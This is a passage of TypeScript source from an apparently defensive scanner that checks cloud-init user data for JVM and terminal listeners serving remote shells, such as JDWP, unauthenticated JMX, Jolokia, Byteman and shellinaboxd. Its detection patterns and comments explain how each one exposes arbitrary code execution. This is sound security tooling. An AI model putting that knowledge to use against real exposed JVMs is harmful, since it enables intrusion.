    for (const m of text.matchAll(/(?:^|[\s;&|(`"'=])(JAVA_HOME|PATH)=("[^"\n]*"|'[^'\n]*'|[^\s;&|()"'`]*)/g)) {
        const value = m[2].replace(/^(["'])(.*)\1$/, "$2");
        if (m[1] === "JAVA_HOME") out.push(...placed(value));
        else
            for (const entry of value.split(":"))
                if (JDK_PATH.test(entry) && !/^\$\{?JAVA_HOME\b/.test(entry))
                    out.push(...placed(entry.replace(/\/bin\/?$/, "")));
    }
    return out;
}

/**
 * The names of a cloud-config text's top-level `packages:` entries (a name, or `[name, version]`: cloud-init module
 * reference, "Package Update Upgrade Install"), read by the YAML parser (any sequence style, comments); none when the
 * text is no cloud-config or does not parse (its other readers refuse it then).
 */
function cloudConfigPackages(text: string): string[] {
    if (!/^#cloud-config/.test(text)) return [];
    try {
        const packages: unknown = parseAllDocuments(text)[0]?.toJS()?.packages;
        return Array.isArray(packages) ? packages.map(p => String(Array.isArray(p) ? p[0] : p)) : [];
    } catch {
        return [];
    }
}

/**
 * The Java feature release of the JVM `java` (the executable as a command runs it) starts, when the pack can tell: the
 * JDK its path names (javaReleaseOf: `/usr/lib/jvm/java-1.8.0-amazon-corretto/bin/java` is 8), else, for a `java` found
 * on PATH or a JVM a launcher starts (undefined `java`), the oldest of the JDKs user data installs, unpacks or links
 * (view.javaReleases: installedJavaReleases, placedJavaReleases)
 * when it installs some and the pack can tell each one's release: the node's image has none of its own (the EKS AMIs
 * ship no JDK), and `alternatives` may pick any of them. Undefined otherwise (fail closed where the release matters).
 */
function javaRelease(java: string | undefined, view: ScriptView): number | undefined {
    const named = java === undefined ? undefined : javaReleaseOf(posix.dirname(java));
    if (named !== undefined) return named;
    const installed = view.javaReleases ?? [];
    return installed.length > 0 && installed.every(r => r !== undefined)
        ? Math.min(...(installed as number[]))
        : undefined;
}

/**
 * Options of a JVM that may start a remote-control agent (jvmAgentListeners), found anywhere in a text (a variable's
 * value, a file user data writes): JDWP's (jdwpSettings), `-D` system properties (JMX's), `-javaagent:` (javaAgentListeners: Jolokia, Byteman, any agent naming an address).
 */
const jvmAgentOptionWords = (text: string) =>
    [...text.matchAll(/(?:^|[\s"'=(])(-(?:agentlib:|agentpath:|Xrun|javaagent:|D)[^\s"'`;)]+)/g)].map(m => m[1]);

/**
 * The JVM's remote-control agents, each a served shell (any code run as the JVM's user), from its options before the
 * main class or `-jar FILE` (javaOptions: argument files expanded), with those its environment gives it before and
 * after them (jvmEnvironmentOptions, judged with root's environment in environmentListeners):
 * - JDWP with server=y (jdwpSettings: `-agentlib:jdwp=...`, `-Xrunjdwp:...`, `-agentpath:.../libjdwp.so=...`) listens on `address=[HOST:]PORT` (Oracle JPDA
 *   "Connection and Invocation Details"; since JDK 9 a port alone is loopback, `*` every address: OpenJDK
 *   serviceability-dev, "The socket transport was changed to listen on the loopback address by default"; JDK 9
 *   release note JDK-8041435, "JDWP socket connector accept only local connections by default": before it, every
 *   address, so a port alone is loopback only in a JVM javaRelease knows is 9 or later), and an
 *   attached debugger invokes any method (JDWP ClassType.InvokeMethod). server=n dials a debugger: a client.
 * - JMX's remote connector, `com.sun.management.jmxremote.port=N` with authentication off (Oracle "Monitoring and
 *   Management Using JMX Technology", "Disabling Password Authentication"; Table 2-1: `.host` the interface it binds,
 *   every address when unset; `.local.only` is the local connector's), whose MBean server loads classes on request
 *   (javax.management.loading.MLet). Its properties come from `-D` options over those of the file
 *   `-Dcom.sun.management.config.file=FILE` names ("Using a Management Properties File": "Properties specified on the
 *   command line override properties in the configuration file"); authentication is off for any value but "true"
 *   ignoring case (jmxTrue; default true). With authentication it is a password login, left to the fail-closed rule.
 *   Cassandra's own connector on `cassandra.jmx.remote.port` reads the same properties, off by default.
 * An argument file or management properties file user data does not write in full or changes may enable either: a
 * served shell on every address, as an unread Jupyter configuration is.
 */
function jvmAgentListeners(
    args: readonly string[],
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
    environment: { before: readonly string[]; after: readonly string[]; unread?: readonly string[] } = {
        before: [],
        after: [],
    },
    java?: string,
): Listener[] {
    const own = javaOptions(args, fileText, view);
    const options = [...environment.before, ...own.options, ...environment.after];
    // A port alone (or none) is loopback from JDK 9 only (JDK-8041435), every address before: unless the pack can tell
    // the JVM is 9 or later (javaRelease), every address.
    const release = javaRelease(java, view);
    const jdwp = options.flatMap((w): Listener[] => {
        const settings = jdwpSettings(w);
        const get = (key: string) => new RegExp(`(?:^|,)${key}=([^,]*)`).exec(settings ?? "")?.[1];
        if (settings === undefined || get("server") !== "y") return [];
        const address = get("address") ?? "";
        const portOnly = /^\d*$/.test(address);
        const binds = portOnly ? (release !== undefined && release >= 9 ? ["127.0.0.1"] : []) : [address];
        const why =
            portOnly && binds.length === 0
                ? `; a port alone is every address before JDK 9 and this JVM's release is ${release ?? "unknown"}`
                : "";
        return [
            { server: `java ${w} (JDWP: a debugger runs any code in the JVM${why})`, binds, serves: { shell: "sh" } },
        ];
    });
    const systemProperty = (name: string) =>
        options.flatMap(w => (w.startsWith(`-D${name}=`) ? [w.slice(w.indexOf("=") + 1)] : [])).at(-1);
    const configFile = systemProperty("com.sun.management.config.file");
    const config = configFile === undefined ? "" : readConfig(configFile, fileText, view);
    const fromFile = javaProperties(config ?? "");
    const property = (name: string) =>
        systemProperty(`com.sun.management.jmxremote.${name}`) ??
        fromFile.filter(p => p.name === `com.sun.management.jmxremote.${name}`).at(-1)?.value;
    // Cassandra's own connector on `cassandra.jmx.remote.port` (cassandra-env.sh's LOCAL_JMX=no branch; apache/cassandra
    // JMXServerOptions: every address, `authenticate` and `ssl` read with Boolean.getBoolean, so off when unset).
    const cassandraPort = systemProperty("cassandra.jmx.remote.port");
    const port = property("port") ?? cassandraPort;
    const offByDefault = property("port") === undefined && cassandraPort !== undefined;
    const authenticate = property("authenticate") ?? (offByDefault ? "false" : "true");
    // TLS client certificates authenticate the connector and its registry (Oracle "Monitoring and Management Using JMX
    // Technology", Table 2-1: ssl default true, ssl.need.client.auth "performs client-based certificate
    // authentication", registry.ssl binds the connector stub to a registry protected by SSL): with all three, a
    // client needs a certificate the truststore trusts, as authenticate=true needs a password.
    const clientCertificates =
        jmxTrue(property("ssl") ?? (offByDefault ? "false" : "true")) &&
        jmxTrue(property("ssl.need.client.auth") ?? "false") &&
        jmxTrue(property("registry.ssl") ?? "false");
    const jmx: Listener[] =
        port !== undefined && !jmxTrue(authenticate) && !clientCertificates
            ? [
                  {
                      server: `java with JMX on port ${port} and authenticate=${authenticate} (MBeans load any code)`,
                      binds: [property("host") ?? ""].filter(h => h !== ""),
                      serves: { shell: "sh" },
                  },
              ]
            : [];
    const agents = options.flatMap(w => javaAgentListeners(w, fileText, view));
    const unreadFiles = [
        ...own.unread,
        ...(environment.unread ?? []),
        ...(config == null ? [configFile ?? ""] : []),
    ].map(file => ({
        server: `java with ${file}, a file user data does not write in full or changes after writing it (it may start JDWP or JMX)`,
        binds: [],
        serves: { shell: "sh" },
    }));
    return [...jdwp, ...jmx, ...agents, ...unreadFiles];
}

/**
 * Spring Boot's canonical form of a property name, the one form every source's names are matched in (Spring Boot
 * reference, "Relaxed Binding": kebab case, camel case and underscore notation name one property in properties and
 * YAML files, system properties and the command line, `spring.web.resources.static-locations`, `staticLocations`,
 * `static_locations`; ConfigurationPropertyName's uniform form: "bound by removing any special characters and
 * converting to lowercase" within each dotted element; list indexes `[0]` dropped here: any item is the property's).
 */
const springKey = (name: string) =>
    name
        .replace(/\[\d+\]/g, "")
        .split(".")
        .map(element => element.toLowerCase().replace(/[-_]/g, ""))
        .join(".");

/**
 * The environment variables that set a property (its kebab-case name), each as `env:NAME`: Spring Boot's
 * SystemEnvironmentPropertyMapper maps a property to its canonical name (each element's dashes removed, `_` between
 * elements, upper case: SPRING_WEB_RESOURCES_STATICLOCATIONS) AND its legacy one (convertLegacyName: each element's
 * `-` an `_` too: SPRING_WEB_RESOURCES_STATIC_LOCATIONS); Spring Boot reference "Binding From Environment Variables".
 */
const springEnvironmentNames = (property: string) =>
    [springKey(property).replace(/\./g, "_"), property.replace(/[.-]/g, "_")].map(n => `env:${n.toUpperCase()}`);

/** Spring Boot's static resource locations properties (3.x `spring.web.resources`, 2.x `spring.resources`). */
const SPRING_STATIC_LOCATIONS = ["spring.web.resources.static-locations", "spring.resources.static-locations"];

/**
 * The directories a Spring Boot application serves as static content (Spring Boot reference, "Static Content": Spring
 * MVC serves `/**` from `spring.web.resources.static-locations`, "You can also customize the static resource locations";
 * its embedded server listens on `server.port`, 8080, on every address unless `server.address` is set), its
 * properties read from every source the pack can see (Spring Boot reference, "Externalized Configuration"): command
 * line `--name=value` after the main class or `-jar FILE`, `-D` system properties, SPRING_APPLICATION_JSON (or
 * `spring.application.json`), environment variables (relaxed: SPRING_WEB_RESOURCES_STATICLOCATIONS and its legacy
 * SPRING_WEB_RESOURCES_STATIC_LOCATIONS, SERVER_ADDRESS: springEnvironmentNames),
 * and the config data files `application[-PROFILE].properties|yml|yaml` user data writes in the working directory,
 * its `config/` and `config/*\/` ("optional:file:./", "optional:file:./config/", "optional:file:./config/*\/"), or
 * where `spring.config.location` / `additional-location` name; `spring.config.name` renames them. Every value any
 * source gives counts (profiles may pick any), fail-closed: a value the pack cannot read is a directory it cannot know.
 * `file:` locations are paths (relative: the working directory's), `classpath:` ones the application's own.
 */
function springStaticListeners(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const end = javaOptionsEnd(args);
    const application = end < 0 ? [] : args.slice(end + (args[end] === "-jar" ? 2 : 1));
    const jar = args[end] === "-jar" ? args[end + 1] : args[end];
    // Each source's properties: [canonical key, value], undefined for a value the pack cannot read; key "*" for a
    // source it cannot read at all (any property, any value).
    const properties: [string, string | undefined][] = [];
    const unknown = () => properties.push(["*", undefined]);
    const add = (key: string, value: string | undefined, environment = false) => {
        // An environment variable by its name (a list index `_0` dropped), matched by springEnvironmentNames.
        const k = environment ? `env:${key.replace(/_\d+_?$/, "").toUpperCase()}` : springKey(key);
        properties.push([k, value !== undefined && /[$`]/.test(value) ? undefined : value]);
        if (k === "spring.application.json") addTree(json(value), "");
    };
    const json = (text: string | undefined): unknown => {
        try {
            return text === undefined ? undefined : JSON.parse(text);
        } catch {
            return undefined;
        }
    };
    // A JSON or YAML tree's leaves by dotted key (a list's items each the key's value).
    function addTree(tree: unknown, key: string): void {
        if (tree === undefined && key === "") return void unknown();
        if (Array.isArray(tree)) tree.forEach(x => addTree(x, key));
        else if (tree !== null && typeof tree === "object")
            Object.entries(tree).forEach(([k, x]) => addTree(x, key === "" ? k : `${key}.${k}`));
        else add(key, String(tree));
    }
    for (const w of application) {
        const m = /^--([^=]+)(?:=(.*))?$/.exec(w);
        if (m) add(m[1], m[2] ?? "");
    }
    for (const w of javaOptions(args, fileText, view).options) {
        const m = /^-D([^=]+)(?:=(.*))?$/.exec(w);
        if (m) add(m[1], m[2] ?? "");
    }
    for (const [name, assigned] of view.environment)
        if (/^(SPRING_|SERVER_)/.test(name))
            for (const value of assigned)
                if (name === "SPRING_APPLICATION_JSON") addTree(json(value), "");
                else add(name, value, true);
    const values = (...keys: string[]) =>
        properties
            .filter(
                ([k]) => k === "*" || keys.some(key => springKey(key) === k || springEnvironmentNames(key).includes(k)),
            )
            .map(([, v]) => v);
    // The config data files: where they are, under which names.
    const resolve = (path: string) =>
        path.startsWith("/") ? posix.normalize(path) : cwd === undefined ? undefined : posix.resolve(cwd, path);
    const names = ["application", ...values("spring.config.name").flatMap(v => v?.split(",") ?? [undefined])];
    const places = [
        ...(cwd === undefined ? [undefined] : [cwd, posix.join(cwd, "config")]),
        ...values("spring.config.location", "spring.config.additional-location", "spring.config.import")
            .flatMap(v => v?.split(",") ?? [undefined])
            .map(v => v?.trim().replace(/^optional:/, ""))
            .flatMap(v => (v?.startsWith("classpath:") ? [] : [v && resolve(v.replace(/^file:/, ""))])),
    ];
    const configName = (path: string) => /^([^/]+?)(-[^/]*)?\.(properties|ya?ml)$/.exec(posix.basename(path));
    const written = [...(view.written?.() ?? [])];
    const files = new Set<string | undefined>();
    for (const place of places)
        for (const name of names) {
            if (place === undefined || name === undefined) {
                // Wherever they are: every config file user data writes may be one, and a name unknown any file.
                written.filter(p => name === undefined || configName(p)?.[1] === name).forEach(p => files.add(p));
                if (name === undefined) files.add(undefined);
                continue;
            }
            const named = (p: string) => configName(p)?.[1] === name;
            if (named(place) || /\.(properties|ya?ml)$/.test(place)) files.add(place);
            else {
                for (const ext of ["properties", "yml", "yaml"]) files.add(posix.join(place, `${name}.${ext}`));
                // Profile files, and `config/*/` subdirectories, user data writes.
                written
                    .filter(p => named(p) && (posix.dirname(p) === place || posix.dirname(posix.dirname(p)) === place))
                    .forEach(p => files.add(p));
            }
        }
    for (const file of files) {
        const text = file === undefined ? null : readConfig(file, fileText, view);
        if (text === undefined) continue;
        if (text === null) unknown();
        else if (/\.properties$/.test(file ?? "")) javaProperties(text).forEach(p => add(p.name, p.value));
        else
            try {
                for (const d of parseAllDocuments(text)) {
                    if (d.errors.length > 0) unknown();
                    const tree: unknown = d.toJS();
                    if (tree != null) addTree(tree, "");
                }
            } catch {
                unknown();
            }
    }
    const locations = values(...SPRING_STATIC_LOCATIONS).flatMap(v => v?.split(",") ?? [undefined]);
    if (locations.length === 0) return [];
    const addresses = values("server.address");
    const binds = addresses.includes(undefined) || addresses.includes("") ? [] : (addresses as string[]);
    const port = values("server.port").at(-1) ?? "8080";
    const dirs = new Set(
        locations.flatMap(l => {
            const location = l?.trim();
            if (location?.startsWith("classpath:")) return [];
            return [location?.startsWith("file:") ? resolve(location.slice(5) || ".") : undefined];
        }),
    );
    return [...dirs].map(dir => ({
        server: `java ${jar ?? ""} (Spring Boot static content from ${dir === undefined ? "a location the pack cannot read" : `file:${dir}`}, port ${port})`,
        binds,
        port,
        serves: { files: dir },
    }));
}

/**
 * The agents JVM options in a file user data writes start (jvmAgentOptionWords, judged as one JVM's options by
 * jvmAgentListeners), or in a fragment it appends or edits in: whatever reads the file may be a JVM launcher the pack
 * does not know (Tomcat's setenv.sh, a packaged unit's drop-in or environment file, jetty.sh's /etc/default/jetty, a
 * Spring Boot launch script's `.conf` beside the jar: Spring Boot "Installing Spring Boot Applications", JAVA_OPTS
 * "Options that are passed to the JVM when it is launched"), so such options beyond loopback fail closed wherever they
 * are written, without a table row per product. Files the options name (a management `config.file`, Jolokia's
 * `config=`) are read as empty here: the JVM that reads them is judged with them where the pack knows it. A line that
 * starts with `#` outside a quoted string is a comment wherever such a file is read (bash(1) COMMENTS; java(1) "java
 * Command-Line Argument Files", "#" starting a comment; systemd.exec(5) EnvironmentFile=, "Lines beginning with ; or #
 * are ignored"; java.util.Properties; install4j and Elasticsearch/Cassandra `.options` files): not options. (HotSpot's
 * `-XX:VMOptionsFile=` has no comments; a java command naming one is judged with its words by jvmOptionFiles.) The
 * JVM's release is the JDKs user data installs (javaRelease; `view` only gives those).
 */
function jvmOptionFileListeners(path: string, content: string, view: ScriptView = NO_VIEW): Listener[] {
    const words = jvmAgentOptionWords(uncommentedLines(content));
    return words.length === 0
        ? []
        : jvmAgentListeners(words, () => "", { ...NO_VIEW, javaReleases: view.javaReleases }).map(l => ({
              ...l,
              server: `${path}, JVM options whatever reads it may pass to a JVM: ${l.server}`,
          }));
}

/**
 * A text without its comment lines: those whose first non-blank character is `#`, outside a string a `"` or `'` opened
 * on an earlier line (a shell value spanning lines keeps them: they are its words).
 */
function uncommentedLines(text: string): string {
    let quote: string | undefined;
    return text
        .split(/\r?\n/)
        .filter(line => {
            const comment = quote === undefined && /^\s*#/.test(line);
            if (!comment)
                for (let i = 0; i < line.length; i++) {
                    const c = line[i];
                    if (quote === undefined && c === "#" && (i === 0 || /\s/.test(line[i - 1]))) break;
                    if (c === "\\" && quote !== "'") i++;
                    else if (quote === undefined && (c === '"' || c === "'")) quote = c;
                    else if (c === quote) quote = undefined;
                }
            return !comment;
        })
        .join("\n");
}

/**
 * The agents jcmd(1) starts in a running JVM, judged as its options (jvmAgentListeners): "ManagementAgent.start
 * [options]: Starts remote management agent" (`config.file`, `jmxremote.port`, `jmxremote.authenticate` ...: the
 * `-Dcom.sun.management.*` properties of the same names, authentication on unless `jmxremote.authenticate` says
 * otherwise), and "JVMTI.agent_load <library path> [<agent option>]: Loads JVMTI native agent library" (JDWP by the
 * library's name: `-agentpath:`; a `.jar` a Java agent: attachedAgentOption). `-f FILE` reads the commands from FILE,
 * one a line; one user data does not write in full or changes may start either.
 */
function jcmdListeners(
    args: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const file = args.findIndex(w => w === "-f");
    const text = file < 0 ? undefined : readConfig(args[file + 1] ?? "", fileText, view);
    if (file >= 0 && text === null)
        return [
            {
                server: `jcmd -f ${args[file + 1]}, commands user data does not write in full or changes (they may start JDWP or JMX)`,
                binds: [],
                serves: { shell: "sh" },
            },
        ];
    const commands = file < 0 ? [args] : (text ?? "").split(/\r?\n/).map(quotedWords);
    return commands.flatMap(words =>
        words.flatMap((w, i): Listener[] => {
            const options =
                w === "ManagementAgent.start"
                    ? words
                          .slice(i + 1)
                          .filter(o => /^(config\.file|jmxremote\.[\w.]+)=/.test(o))
                          .map(o => `-Dcom.sun.management.${o}`)
                    : w === "JVMTI.agent_load" && words[i + 1]
                      ? [attachedAgentOption(words[i + 1], true, words[i + 2])]
                      : [];
            return options.length === 0
                ? []
                : jvmAgentListeners(options, fileText, view).map(l => ({ ...l, server: `jcmd ${w}: ${l.server}` }));
        }),
    );
}

/** A `-javaagent:` option string's key naming where an agent listens (or connects): host, address, bind, listen, port. */
const JAVA_AGENT_LISTEN_KEY = /(^|[._-])(host|hostname|address|addr|ip|bind|listen|interface|port)$/i;

/**
 * The listener a `-javaagent:JAR[=OPTIONS]` option starts (java.lang.instrument: the agent's premain is given the
 * option string, whose syntax is the agent's own): Jolokia's (jolokiaAgentListeners); Byteman's (Byteman Programmer's
 * Guide, "Configuring a Java Agent": comma-separated `key:value` options, `listener:true` starts the agent listener
 * bmsubmit uploads rules to, on `address:` default localhost and `port:` default 9091; a rule's actions are Java run in
 * the JVM): a served shell; alibaba jvm-sandbox's (sandbox-agent.jar; AgentLauncher.java toFeatureMap: options split on
 * `;`, then `=`; KEY_SERVER_IP "ip", DEFAULT_IP "0.0.0.0"): its Jetty control server loads modules that rewrite any
 * method, a served shell on `ip`, every address without one; any other agent whose options (split on `,`, `;` or `&`,
 * the separators agents use) name where it listens (JAVA_AGENT_LISTEN_KEY) serves what the pack cannot know, on the
 * hosts they name, every address when they name only a port (fail closed).
 */
function javaAgentListeners(
    option: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const m = /^-javaagent:([^=]*)(?:=(.*))?$/.exec(option);
    if (!m) return [];
    if (/jolokia/i.test(m[1])) return jolokiaAgentListeners(option, fileText, view);
    const settings = (m[2] ?? "").split(/[,;&]/).flatMap(kv => {
        const i = kv.search(/[=:]/);
        return i > 0 ? [{ name: kv.slice(0, i), value: kv.slice(i + 1) }] : [];
    });
    const get = (name: string) => settings.filter(o => o.name === name).at(-1)?.value;
    const host = (h: string) => (h === "localhost" ? "127.0.0.1" : h === "*" ? "0.0.0.0" : h);
    if (/byteman/i.test(posix.basename(m[1])))
        return (get("listener") ?? "").toLowerCase() === "true"
            ? [
                  {
                      server: `java ${option} (Byteman's agent listener: uploaded rules run any code in the JVM)`,
                      binds: [host(get("address") ?? "localhost")],
                      serves: { shell: "sh" },
                  },
              ]
            : [];
    if (/^sandbox-agent.*\.jar$/i.test(posix.basename(m[1])))
        return [
            {
                server: `java ${option} (jvm-sandbox's control server: its modules rewrite any method in the JVM)`,
                binds: [host(get("ip") || "0.0.0.0")],
                serves: { shell: "sh" },
            },
        ];
    const named = settings.filter(o => JAVA_AGENT_LISTEN_KEY.test(o.name));
    if (named.length === 0) return [];
    const hosts = named.filter(o => !/port$/i.test(o.name)).map(o => host(o.value));
    return [{ server: `java ${option}`, binds: hosts, serves: { unread: `java with the agent ${m[1]}` } }];
}

/**
 * The JVM option loading the agent an attach command loads into a running JVM: a `.jar` (jcmd JVMTI.agent_load, HotSpot
 * diagnosticCommand.cpp JVMTIAgentLoadDCmd: a path ending in .jar loads the `instrument` agent with "PATH=OPTIONS") or
 * the `instrument` library with OPTIONS (jattach: "Java agents are loaded by the special built-in native agent named
 * instrument, which takes .jar path and its arguments as a single options string") as `-javaagent:`, an absolute path
 * as `-agentpath:PATH=OPTIONS`, a library name as `-agentlib:NAME=OPTIONS` (java(1)), judged by jvmAgentListeners.
 */
function attachedAgentOption(library: string, absolute: boolean, options: string | undefined): string {
    if (/\.jar$/i.test(library)) return `-javaagent:${library}${options ? `=${options}` : ""}`;
    if (library === "instrument" && !absolute) return `-javaagent:${options ?? ""}`;
    return `${absolute ? "-agentpath:" : "-agentlib:"}${library}=${options ?? ""}`;
}

/**
 * jattach(1) (apangin/jattach README, "JVM Dynamic Attach utility": `jattach <pid> <cmd> [args ...]`; "jcmd : execute
 * jcmd command", "load : load agent library", `jattach <pid> load <.so-path> { true | false } [ options ]` where "true
 * means that the path is absolute"), HotSpot's attach API sent to a running JVM without a JDK: its `jcmd` command's
 * words (one quoted string or several) judged as jcmd's (jcmdListeners: ManagementAgent.start, JVMTI.agent_load), its
 * `load` as the option loading the same agent (attachedAgentOption: JDWP by the library's name, Jolokia by its jar).
 */
function jattachListeners(
    args: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const [, command, ...rest] = args;
    const listeners =
        command === "jcmd"
            ? jcmdListeners(
                  rest.flatMap(w => w.split(/\s+/)).filter(w => w !== "" && w !== "-f"),
                  fileText,
                  view,
              )
            : command === "load" && rest[0]
              ? jvmAgentListeners([attachedAgentOption(rest[0], rest[1] === "true", rest[2])], fileText, view)
              : [];
    return listeners.map(l => ({ ...l, server: `jattach ${command}: ${l.server}` }));
}

/**
 * The Jolokia JVM agent of a `-javaagent:JAR=OPTIONS` option whose JAR is Jolokia's (jolokia.org reference, "JVM
 * Agent": `java -javaagent:/path/to/agent.jar=port=7777,host=localhost`; `config=FILE` a properties file of the same
 * options, those of the option string over it): JMX over HTTP, whose MBeans load any code (MLet, DiagnosticCommand), on
 * `host` (the address its HTTP server binds; `*` or 0.0.0.0 every address; default localhost), unless `user` (with
 * `password`; `authMode` basic, the default, checks them) or another authenticator (`authMode` jaas or delegate,
 * `useSslClientAuthentication`) asks who calls: left to the fail-closed
 * rule as JMX with authentication is. A configuration file user data does not write in full, or changes, may say
 * anything: every address.
 */
function jolokiaAgentListeners(
    option: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const m = /^-javaagent:([^=]*jolokia[^=]*)(?:=(.*))?$/i.exec(option);
    if (!m) return [];
    const given = (m[2] ?? "").split(",").flatMap(kv => {
        const i = kv.indexOf("=");
        return i > 0 ? [{ name: kv.slice(0, i), value: kv.slice(i + 1) }] : [];
    });
    const configFile = given.filter(o => o.name === "config").at(-1)?.value;
    const config = configFile === undefined ? "" : readConfig(configFile, fileText, view);
    if (config === null)
        return [
            {
                server: `java ${option} (Jolokia: JMX over HTTP) with ${configFile}, which user data does not write in full or changes`,
                binds: [],
                serves: { shell: "sh" },
            },
        ];
    const settings = [...javaProperties(config ?? ""), ...given];
    const get = (name: string) => settings.filter(o => o.name === name).at(-1)?.value;
    const authenticator = (get("authMode") ?? "basic") !== "basic";
    if (get("user") || authenticator || jmxTrue(get("useSslClientAuthentication") ?? "false")) return [];
    const host = get("host") ?? "localhost";
    return [
        {
            server: `java ${option} (Jolokia: JMX over HTTP without authentication, MBeans load any code)`,
            binds: [host === "*" ? "0.0.0.0" : host === "localhost" ? "127.0.0.1" : host],
            serves: { shell: "sh" },
        },
    ];
}
/**
 * Shell In A Box (shellinaboxd(1): "a webserver that listens on the specified port", -p/--port "default 4200", on
 * every address unless --localhost-only; "If no particular service was requested, the server launches /bin/login";
 * -s/--service `URL:LOGIN`, `URL:SSH[:host]`, or `URL:USER:GROUP:CWD:CMD`, which runs CMD as USER without a login):
 * each service's command served in a browser terminal, as ttyd's.
 */
function shellinaboxdListeners(args: readonly string[]): Listener[] {
    const { options } = getopt(args, "cfgpsu", [
        ...["cert", "cert-fd", "css", "static-file", "group", "port", "service", "user", "user-css", "pidfile"],
        "linkify",
    ]);
    const binds = options.some(([k]) => k === "--localhost-only") ? ["127.0.0.1"] : [];
    const port = optionValues(options, "-p", "--port").at(-1) ?? "4200";
    const services = optionValues(options, "-s", "--service");
    return (services.length > 0 ? services : ["/:LOGIN"]).map(service => {
        const [, kind = "", ...rest] = service.split(":");
        const command =
            kind === "LOGIN"
                ? "/bin/login"
                : kind === "SSH"
                  ? `ssh ${rest[0] ?? "localhost"}`
                  : rest.slice(3).join(":");
        return {
            server: `shellinaboxd -s ${service}`,
            binds,
            port,
            serves: { shell: command === "" ? "/bin/sh" : command },
        };
    });
}

/**
 * Where a SOURCE_RUNNERS command's sources are: its working directory (undefined when the pack cannot tell it), the
 * files user data wrote and their text.
 */
interface SourceLookup {
    cwd: string | undefined;
    fileText: (path: string) => string | undefined;
    written: readonly string[];
    /** Whether user data changed files in `dir` in a way the pack cannot compute (a clone, an extraction). */
    changedIn: (dir: string) => boolean;
    /** Whether user data changed the file `path` in a way the pack cannot compute (readConfig). */
    changedFile: (path: string) => boolean;
    /** Every value the script assigns to a build variable (VIEWED_VARIABLES: GO*, CARGO_*, RUST*), anywhere. */
    environment: ReadonlyMap<string, readonly (string | undefined)[]>;
}
/** A runner's sources: the files (relative ones from the working directory), or "unknown" when the pack cannot find them. */
type RunnerSources = string[] | "unknown";
/**
 * Compilers and runners of source code the pack has no reader for, each with the source files a command line runs
 * (undefined when it runs none: `go build`, `java -jar`; "unknown" when the pack cannot find them, fail closed):
 * `go run` (goRunSources), `cargo run` (cargoRunSources), `java FILE.java` (JEP 330, single-file source-code launch)
 * and `java --source N FILE` (javaSources), `dotnet run` (dotnetRunSources), `kotlinc -script FILE.kts` and `kotlin
 * FILE.main.kts`, `swift FILE.swift`, `ruby FILE.rb`, `perl FILE.pl`. Node.js runners (deno included) and Python are
 * read by their own readers (nodeFileServerListeners, pythonFileServerListeners).
 */
const SOURCE_RUNNERS: {
    names: RegExp;
    sources: (args: readonly string[], at: SourceLookup) => RunnerSources | undefined;
}[] = [
    { names: /^go$/, sources: goRunSources },
    { names: /^cargo$/, sources: cargoRunSources },
    { names: /^java$/, sources: javaSources },
    { names: /^dotnet$/, sources: dotnetRunSources },
    { names: /^(kotlinc|kotlinc-jvm|kotlin)$/, sources: args => sourceOperands(args, /\.kts$/, 1) },
    { names: /^swift$/, sources: args => sourceOperands(args, /\.swift$/, 1) },
    { names: /^ruby[0-9.]*$/, sources: args => sourceOperands(args, /\.rb$/, 1) },
    { names: /^perl[0-9.]*$/, sources: args => sourceOperands(args, /\.p[lm]$/, 1) },
];
/** Every SOURCE_RUNNERS program. */
const SOURCE_RUNNER_NAMES = new RegExp(SOURCE_RUNNERS.map(r => r.names.source).join("|"));
/** The operands of a runner that are source files (`ext`), the first `first` of them if given; undefined if none. */
function sourceOperands(args: readonly string[], ext: RegExp, first?: number): string[] | undefined {
    const files = args.filter(w => !w.startsWith("-") && ext.test(w)).slice(0, first);
    return files.length > 0 ? files : undefined;
}
/** The files user data wrote in `dir` (below it too with `deep`, but not under `skip`) named by `ext`. */
function writtenSources(at: SourceLookup, dir: string, ext: RegExp, deep = false, skip?: RegExp): string[] {
    return at.written.filter(path => {
        const rel = posix.relative(dir, path);
        return (
            ext.test(path) &&
            !rel.startsWith("..") &&
            !posix.isAbsolute(rel) &&
            (deep ? !(skip?.test(rel) ?? false) : !rel.includes("/"))
        );
    });
}
/**
 * `go run [build flags] [-exec xprog] package [arguments...]` (go help run: "Typically the package is specified as a list
 * of .go source files from a single directory, but it may also be an import path, file system path, or pattern
 * matching a single known package, as in 'go run .' or 'go run my/cmd'"; go help build's flags, -C dir first): .go
 * operands are the files; a directory (`.`, `./cmd/web`, from -C's directory or the working directory) is its
 * package, every .go file user data wrote there but its tests (go help test: "_test.go" files); an import path is
 * the directory of a go.mod user data wrote whose module path prefixes it. A pattern (`...`), a version, another
 * module's path, an unknown flag or working directory, a package directory user data changed in a way the pack
 * cannot compute (a clone): "unknown".
 */
function goRunSources(args: readonly string[], at: SourceLookup): RunnerSources | undefined {
    if (args[0] !== "run") return undefined;
    const VALUED =
        /^-(C|o|p|exec|asmflags|buildmode|compiler|covermode|coverpkg|gccgoflags|gcflags|installsuffix|ldflags|mod|modfile|overlay|pgo|pkgdir|tags|toolexec)$/;
    const BOOLEAN = /^-(a|n|race|msan|asan|cover|v|work|x|trimpath|linkshared)$/;
    // Flags that run another program or build other files (go help build, go help run): -toolexec "a program to use
    // to invoke toolchain programs", -exec xprog ("'go run' invokes the binary using xprog"), -overlay ("a build will
    // run as if the disk file path exists with the contents given by the backing file paths"), -modfile (another
    // go.mod: its requires and replaces), -compiler/-gccgoflags (another toolchain): what they run is unknown.
    const OTHER_CODE = /^-(toolexec|exec|overlay|modfile|compiler|gccgoflags)$/;
    // GOFLAGS (go help environment: "A space-separated list of -flag=value settings to apply to go commands by
    // default") and GOWORK ("the path to the go.work file"; `go help work`: its `use` modules satisfy imports; "off"
    // disables workspace mode) set anywhere in the script may reach this command: unknown, but GOWORK=off.
    const env = (name: string) => at.environment.get(name) ?? [];
    if (env("GOFLAGS").length > 0 || env("GOWORK").some(v => v !== "off") || env("GOENV").length > 0) return "unknown";
    let dir = at.cwd;
    let i = 1;
